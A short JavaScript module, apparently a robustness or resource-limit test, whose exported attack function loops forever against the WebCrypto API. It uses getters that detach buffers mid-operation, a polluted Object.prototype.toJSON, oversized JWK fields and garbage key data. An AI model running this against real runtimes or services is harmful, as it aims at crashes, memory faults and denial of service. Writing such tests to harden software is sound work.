// cpu|memory: parameters and keys whose getters use what they are part of
const { subtle } = crypto;
const big = () => new Uint8Array(20000);
export default async function attack() {
  const key = await subtle.generateKey({ name: "AES-CBC", length: 128 }, true, ["encrypt", "wrapKey"]);
  for (;;) {
    const data = big();
    const pull = () => data.buffer.detached || data.buffer.transfer(0);
    const algorithm = { name: "AES-CBC", get iv() { pull(); return new Uint8Array(16); } };
    await subtle.encrypt(algorithm, key, data).catch(() => {});
    const iv = new Uint8Array(16);
    Object.prototype.toJSON = () => { iv.buffer.transfer(0); return big().join(); };
    await subtle.wrapKey("jwk", key, key, { name: "AES-CBC", iv }).catch(() => {});
    delete Object.prototype.toJSON;
    const jwk = { kty: "EC", crv: "P-256", get x() { return "a".repeat(1e5); }, get y() { return attack.toString(); } };
    await subtle.importKey("jwk", jwk, { name: "ECDSA", namedCurve: "P-256" }, true, ["verify"]).catch(() => {});
    await subtle.importKey("spki", big(), { name: "RSA-PSS", hash: "SHA-256" }, true, ["verify"]).catch(() => {});
  }
}
